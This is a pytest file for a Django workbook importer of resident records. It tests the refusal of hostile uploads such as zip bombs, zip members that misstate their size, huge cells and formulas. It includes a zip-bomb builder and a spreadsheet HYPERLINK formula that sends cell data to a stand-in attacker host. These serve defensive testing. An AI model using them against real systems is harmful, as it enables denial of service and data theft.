"""Hostile workbooks are refused before or while parsing, with a clear Indonesian message, and nothing is
written: a zip bomb, a file that is not a zip, 100,000 empty rows, junk past the row limit, huge cells,
formulas, and a file with more errors than the page lists. The command line uses the same reader."""

from __future__ import annotations

import io
import struct
import time
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook, load_workbook

from dasawisma.workbook import columns as c
from dasawisma.workbook.importer import workbook_import
from dasawisma.workbook.reader import check_package

from .conftest import counts, valid_rows, warga_row, write_rows

pytestmark = pytest.mark.django_db

W = c.SHEET_WARGA


def _replace_member(path: Path, name: str, data: bytes, *, declared_size: int | None = None) -> Path:
    """Rewrite the .xlsx at ``path`` with member ``name`` replaced by ``data`` (optionally lying about its size)."""
    with zipfile.ZipFile(path) as src:
        members = [(m, src.read(m.filename)) for m in src.infolist()]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info, content in members:
            out.writestr(info.filename, data if info.filename == name else content)
        if name not in {m.filename for m, _ in members}:
            out.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if declared_size is not None:
        # Patch the uncompressed size in the local header and in the central directory entry of ``name``.
        encoded = name.encode()
        local = raw.find(b"PK\x03\x04")
        while local != -1:
            n = struct.unpack_from("<H", raw, local + 26)[0]
            if raw[local + 30 : local + 30 + n] == encoded:
                struct.pack_into("<I", raw, local + 22, declared_size)
                break
            local = raw.find(b"PK\x03\x04", local + 4)
        central = raw.find(b"PK\x01\x02")
        while central != -1:
            n = struct.unpack_from("<H", raw, central + 28)[0]
            if raw[central + 46 : central + 46 + n] == encoded:
                struct.pack_into("<I", raw, central + 24, declared_size)
                break
            central = raw.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(raw))
    return path


def _shared_strings_bomb(path: Path, megabytes: int, **kw) -> Path:
    """A valid workbook whose shared strings inflate to one string of ``megabytes`` MB (a few hundred KB zipped).

    openpyxl writes inline strings, so the bomb part is added beside the sheets; the package check counts
    every member, referenced or not, before anything is parsed."""
    write_rows(path, valid_rows())
    big = b"A" * (megabytes * 1024 * 1024)
    xml = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>" + big + b"</t></si></sst>"
    )
    return _replace_member(path, "xl/sharedStrings.xml", xml, **kw)


def test_a_shared_strings_bomb_is_refused_before_anything_is_inflated(tree, tmp_path, settings):
    settings.PKK_WORKBOOK_MAX_UNCOMPRESSED_MB = 20
    path = _shared_strings_bomb(tmp_path / "bomb.xlsx", 64)
    assert path.stat().st_size < 1024 * 1024  # 64 MB of text zips to well under 1 MB
    before = counts()
    started = time.monotonic()
    result = workbook_import(source=path, actor=tree.desa, filename="bomb.xlsx")
    assert time.monotonic() - started < 2
    assert not result.ok and len(result.issues) == 1
    assert "Isi berkas terlalu besar" in result.issues[0].reason and "batas 20 MB" in result.issues[0].reason
    assert counts() == before


def test_a_member_lying_about_its_size_fails_instead_of_inflating(tree, tmp_path):
    # The zip says the warga sheet is 100 bytes; it inflates to more. zipfile stops at the declared size
    # and the CRC check fails: the file is refused as unreadable, nothing is inflated past 100 bytes.
    path = write_rows(tmp_path / "liar.xlsx", valid_rows())
    with zipfile.ZipFile(path) as z:
        real = z.read("xl/worksheets/sheet2.xml")
    assert len(real) > 1000
    _replace_member(path, "xl/worksheets/sheet2.xml", real, declared_size=100)
    assert check_package(path) == ""  # the declared sizes are small
    before = counts()
    result = workbook_import(source=path, actor=tree.desa, filename="liar.xlsx")
    assert not result.ok
    assert result.issues[0].reason == "Berkas tidak dapat dibaca sebagai workbook Excel (.xlsx)."
    assert counts() == before


def test_a_text_file_renamed_xlsx_is_refused_with_a_clear_message(tree, tmp_path):
    path = tmp_path / "data.xlsx"
    path.write_text("kode_desa;dusun;rw\n33.06.16.2006;Krajan;01\n")
    result = workbook_import(source=path, actor=tree.desa, filename="data.xlsx")
    assert not result.ok and len(result.issues) == 1
    assert result.issues[0].reason.startswith("Berkas bukan workbook Excel (.xlsx)")


def test_a_zip_that_is_not_a_workbook_is_refused(tree, tmp_path):
    path = tmp_path / "arsip.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("foto.txt", "bukan workbook")
    result = workbook_import(source=path, actor=tree.desa)
    assert [i.reason for i in result.issues] == [
        "Berkas bukan workbook Excel (.xlsx): bagian xl/workbook.xml tidak ada."
    ]


def test_100000_empty_rows_are_skipped_quickly_and_the_data_imports(tree, tmp_path):
    # Real limits: empty rows up to the row limit cost only their reading; the data above them imports.
    path = write_rows(tmp_path / "kosong.xlsx", valid_rows())
    wb = load_workbook(path)
    ws = wb[W]
    ws.cell(row=100_000, column=1, value=None)
    for row in range(6, 100_001, 1):
        ws.cell(row=row, column=2).value = " "  # a blank-looking cell on every row, as a careless paste leaves
    wb.save(path)
    started = time.monotonic()
    result = workbook_import(source=path, actor=tree.desa, filename="kosong.xlsx")
    elapsed = time.monotonic() - started
    assert result.ok, result.issues[:3]
    assert result.warga == 4
    assert elapsed < 30, elapsed


def test_rows_past_the_limit_are_not_read(tree, tmp_path, settings):
    settings.PKK_WORKBOOK_MAX_ROWS = 50
    rows = valid_rows()
    # 200 junk rows: one row-limit issue, not 200 rows of errors; nothing after row 51 is read.
    rows[W] += [warga_row(f"J-{i}", "RT-1", nik="x") for i in range(200)]
    before = counts()
    result = workbook_import(source=write_rows(tmp_path / "junk.xlsx", rows), actor=tree.desa)
    assert not result.ok
    limit = [i for i in result.issues if "lebih dari 50 baris" in i.reason]
    assert len(limit) == 1 and limit[0].sheet == W and limit[0].row == 52
    assert max(i.row for i in result.issues if i.sheet == W) == 52
    assert counts() == before


def test_checking_stops_after_the_error_limit_and_says_how_many_more(tree, tmp_path, settings):
    settings.PKK_WORKBOOK_MAX_ERRORS = 10
    rows = valid_rows()
    rows[W] += [warga_row(f"J-{i}", "RT-1", jenis_kelamin="X") for i in range(30)]  # one error each
    result = workbook_import(source=write_rows(tmp_path / "banyak.xlsx", rows), actor=tree.desa)
    assert len(result.issues) == 10
    # Rows 6-15 gave the ten listed errors; rows 16-35 and the one kehamilan row were not checked.
    assert [i.row for i in result.issues] == list(range(6, 16))
    assert result.unchecked_rows == 21
    assert result.overflow == (
        "Pemeriksaan berhenti setelah 10 kesalahan pertama: 21 baris lagi belum diperiksa. "
        "Perbaiki kesalahan ini lalu unggah lagi."
    )


def test_formulas_are_refused_with_sheet_row_and_column(tree, tmp_path):
    rows = valid_rows()
    rows[W][1]["nama"] = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
    rows[c.SHEET_RUMAH_TANGGA][1]["jumlah_jamban"] = "=1+1"
    before = counts()
    result = workbook_import(source=write_rows(tmp_path / "rumus.xlsx", rows), actor=tree.desa)
    found = {(i.sheet, i.row, i.column): i.reason for i in result.issues}
    assert found[(W, 3, "nama")].startswith('Sel berisi rumus (=HYPERLINK("http://evil.example/?q="&A1,…); ')
    assert "rumus tidak diterima" in found[(c.SHEET_RUMAH_TANGGA, 3, "jumlah_jamban")]
    assert counts() == before


def test_a_formula_with_a_cached_value_is_still_refused(tree, tmp_path):
    # Excel stores the last computed value beside the formula; the reader must not quietly take it.
    path = write_rows(tmp_path / "cache.xlsx", valid_rows())
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet2.xml").decode()
    # Turn W-4's jumlah... rather: the warga sheet's row 2 pekerjaan into a formula with a cached string.
    wb = load_workbook(path)
    col = c.EXPORT_KEYS[W].index("pekerjaan") + 1
    wb[W].cell(row=2, column=col).value = '="Pet"&"ani"'
    wb.save(path)
    assert sheet  # the sheet was there before the edit
    result = workbook_import(source=path, actor=tree.desa)
    assert (W, 2, "pekerjaan") in {(i.sheet, i.row, i.column) for i in result.issues}


def test_huge_cells_are_refused(tree, tmp_path):
    rows = valid_rows()
    rows[W][0]["pekerjaan"] = "x" * 5000
    rows[W][2]["pekerjaan"] = "y" * 1000  # at the limit: read, then refused by the field's own length rule
    result = workbook_import(source=write_rows(tmp_path / "besar.xlsx", rows), actor=tree.desa)
    reasons = {(i.sheet, i.row, i.column): i.reason for i in result.issues}
    # W-1 (the kepala of RT-1) is skipped unread: RT-1 is not reported as "no kepala" on top of it.
    assert reasons == {
        (W, 2, "pekerjaan"): "Isi sel terlalu panjang (5.000 karakter, paling banyak 1000).",
        (W, 4, "pekerjaan"): "terlalu panjang (1000 karakter, paling banyak 80).",
    }


def test_the_command_uses_the_same_reader(tree, tmp_path, settings, capsys):
    settings.PKK_WORKBOOK_MAX_ERRORS = 3
    rows = valid_rows()
    rows[W] += [warga_row(f"J-{i}", "RT-1", agama="=1+1") for i in range(8)]
    path = write_rows(tmp_path / "cli.xlsx", rows)
    before = counts()
    with pytest.raises(CommandError) as exc:
        call_command("import_dasawisma", str(path))
    err = capsys.readouterr().err
    assert exc.value.returncode == 2
    assert err.count("rumus tidak diterima") == 3
    assert "6 baris lagi belum diperiksa" in err  # five warga rows and the kehamilan row
    assert counts() == before


def test_a_text_file_is_refused_by_the_command(tmp_path, capsys):
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"\x00" * 100)
    with pytest.raises(CommandError):
        call_command("import_dasawisma", str(path))
    assert "bukan workbook Excel" in capsys.readouterr().err


def test_a_normal_workbook_is_not_slowed_by_the_package_check(tree, tmp_path):
    wb = Workbook()
    assert wb  # openpyxl's own output passes the check
    path = write_rows(tmp_path / "ok.xlsx", valid_rows())
    assert check_package(path) == ""
    with open(path, "rb") as fh:
        fh.seek(0)
        assert check_package(fh) == "" and fh.tell() == 0
